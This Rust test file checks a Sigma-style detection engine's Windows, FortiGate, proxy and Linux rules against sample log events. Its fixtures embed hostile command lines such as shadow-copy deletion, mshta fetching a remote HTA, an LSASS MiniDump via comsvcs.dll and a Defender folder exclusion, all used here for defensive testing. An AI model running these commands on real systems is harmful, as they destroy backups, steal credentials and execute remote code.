//! The project's own rules: they load, they have sentences for people, and they see what they are for.

use std::path::{Path, PathBuf};

use kakari_detect::sigma::{Engine, Event, LogSource, RuleMask, RuleSet};
use serde_json::{Value, json};

fn files(folder: &Path, found: &mut Vec<(String, Vec<u8>)>) {
    let mut paths: Vec<PathBuf> =
        std::fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path()).collect();
    paths.sort();
    for path in paths {
        if path.is_dir() {
            files(&path, found);
        } else if path.extension().is_some_and(|extension| extension == "yml") {
            found.push((path.display().to_string(), std::fs::read(&path).unwrap()));
        }
    }
}

fn rules() -> RuleSet {
    let mut found = Vec::new();
    files(&Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules"), &mut found);
    let (set, refused) = RuleSet::parse(found);
    assert_eq!(refused, []);
    assert_eq!(set.notes(), &[] as &[String]);
    set
}

#[test]
fn every_rule_speaks_to_people_in_both_languages() {
    let set = rules();
    for rule in set.infos().chain(set.correlations().iter().map(|correlation| &correlation.info)) {
        assert!(
            rule.title_ja.is_some() && rule.advice_ja.is_some() && rule.advice_en.is_some(),
            "{}",
            rule.title
        );
        assert!(rule.tags.iter().any(|tag| tag.starts_with("attack.t")), "{}", rule.title);
        assert_eq!(rule.id.len(), 36, "{}", rule.title);
    }
}

fn windows(channel: &str, id: u32, fields: Value) -> Value {
    let mut event = json!({"Channel": channel, "EventID": id});
    if let (Value::Object(event), Value::Object(fields)) = (&mut event, fields) {
        event.extend(fields);
    }
    event
}

fn process(fields: Value) -> Value {
    windows("Microsoft-Windows-Sysmon/Operational", 1, fields)
}

/// Titles of the rules that fire.
fn fires(engine: &Engine, event: &Value, source: Option<LogSource>) -> Vec<String> {
    let sources: Vec<LogSource> = source.into_iter().collect();
    let event = Event::value(event);
    let event = if sources.is_empty() { event } else { event.from_sources(&sources) };
    let found = engine.detect(&event, &RuleMask::all()).unwrap();
    found.iter().map(|found| found.rule.title.clone()).collect()
}

#[test]
fn windows_rules_see_what_they_are_for() {
    let engine = Engine::compile(rules());
    let encoded = "powershell.exe -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA";
    let service = |path: &str| {
        windows(
            "System",
            7045,
            json!({"Provider_Name": "Service Control Manager", "ServiceName": "x", "ImagePath": path}),
        )
    };
    for (event, title) in [
        (
            process(json!({"Image": "C:\\x\\powershell.exe", "CommandLine": encoded})),
            Some("PowerShell started"),
        ),
        (process(json!({"Image": "C:\\x\\powershell.exe", "CommandLine": "powershell -File a.ps1"})), None),
        (windows("Security", 1102, json!({})), Some("Event log was cleared")),
        (windows("System", 104, json!({})), Some("Event log was cleared")),
        (windows("System", 1102, json!({})), None),
        (
            windows("Microsoft-Windows-Windows Defender/Operational", 1116, json!({})),
            Some("Microsoft Defender found"),
        ),
        (
            windows("Microsoft-Windows-Windows Defender/Operational", 5001, json!({})),
            Some("Microsoft Defender protection"),
        ),
        (service("C:\\Windows\\Temp\\a.exe"), Some("New service")),
        (service("C:\\Program Files\\a\\a.exe"), None),
        (service("%SystemRoot%\\PSEXESVC.exe"), Some("Remote command tool")),
        (process(json!({"CommandLine": "vssadmin delete shadows /all /quiet"})), Some("Backup copies")),
        (
            process(json!({"Image": "C:\\x\\mshta.exe", "CommandLine": "mshta http://198.51.100.7/a.hta"})),
            Some("Windows tool ran"),
        ),
        (
            process(
                json!({"CommandLine": "rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 624 x full"}),
            ),
            Some("Passwords"),
        ),
        (windows("Security", 4732, json!({"TargetSid": "S-1-5-32-544"})), Some("Somebody was made")),
        (windows("Security", 4732, json!({"TargetSid": "S-1-5-32-555"})), None),
        (
            process(json!({"ParentImage": "C:\\x\\WINWORD.EXE", "Image": "C:\\x\\cmd.exe"})),
            Some("Office document"),
        ),
        (
            windows(
                "Microsoft-Windows-Sysmon/Operational",
                13,
                json!({
                    "TargetObject": "HKU\\S-1-5-21\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\a",
                    "Details": "C:\\Users\\a\\AppData\\Roaming\\a.exe",
                }),
            ),
            Some("Program set to start"),
        ),
        (
            process(
                json!({"Image": "C:\\x\\schtasks.exe", "CommandLine": "schtasks /create /tn a /tr \"powershell -w hidden\""}),
            ),
            Some("Scheduled task"),
        ),
        (windows("Security", 4720, json!({"TargetUserName": "new"})), Some("User account")),
        (
            process(json!({"CommandLine": "powershell Add-MpPreference -ExclusionPath C:\\"})),
            Some("Folder was taken out"),
        ),
        (
            windows(
                "Security",
                4688,
                json!({"NewProcessName": "C:\\x\\cmd.exe", "ParentProcessName": "C:\\x\\EXCEL.EXE"}),
            ),
            Some("Office document"),
        ),
    ] {
        let found = fires(&engine, &event, None);
        match title {
            Some(title) => assert!(found.iter().any(|found| found.starts_with(title)), "{event}: {found:?}"),
            None => assert_eq!(found, Vec::<String>::new(), "{event}"),
        }
    }
}

#[test]
fn device_rules_see_what_they_are_for() {
    let engine = Engine::compile(rules());
    let fortigate = || Some(LogSource::new("fortigate", "", ""));
    let proxy = || Some(LogSource::new("squid", "proxy", ""));
    let linux = |service| Some(LogSource::new("linux", "", service));
    let login = |srcip: &str| json!({"type": "event", "subtype": "system", "action": "login", "status": "success", "srcip": srcip});
    for (event, source, title) in [
        (login("203.0.113.9"), fortigate(), Some("Administrator logged in")),
        (login("192.168.1.5"), fortigate(), None),
        (
            json!({"type": "utm", "subtype": "virus", "action": "blocked", "virus": "EICAR"}),
            fortigate(),
            Some("Virus blocked"),
        ),
        (json!({"type": "utm", "subtype": "virus", "action": "monitored"}), fortigate(), Some("Virus found")),
        (
            json!({"type": "utm", "subtype": "ips", "attack": "Mirai.Botnet", "action": "dropped"}),
            fortigate(),
            Some("Contact with a botnet"),
        ),
        (
            json!({"type": "utm", "subtype": "ips", "severity": "critical", "action": "detected"}),
            fortigate(),
            Some("Serious attack"),
        ),
        (
            json!({"type": "event", "subtype": "system", "cfgpath": "log.syslogd.setting"}),
            fortigate(),
            Some("Logging was changed"),
        ),
        (json!({"c-uri": "http://203.0.113.9/a.exe"}), proxy(), Some("Program download from a bare")),
        (json!({"c-uri": "http://192.168.0.9/a.exe"}), proxy(), Some("Program downloaded")),
        (json!({"c-uri": "https://example.com/index.html"}), proxy(), None),
        (
            json!({"raw": "sshd[1]: Accepted password for root from 203.0.113.9 port 22 ssh2"}),
            linux("sshd"),
            Some("Root logged in"),
        ),
        (
            json!({"raw": "sudo: taro : user NOT in sudoers ; TTY=pts/0"}),
            linux("sudo"),
            Some("Attempt to become root"),
        ),
    ] {
        let found = fires(&engine, &event, source);
        match title {
            Some(title) => assert!(found.iter().any(|found| found.starts_with(title)), "{event}: {found:?}"),
            None => assert_eq!(found, Vec::<String>::new(), "{event}"),
        }
    }
}
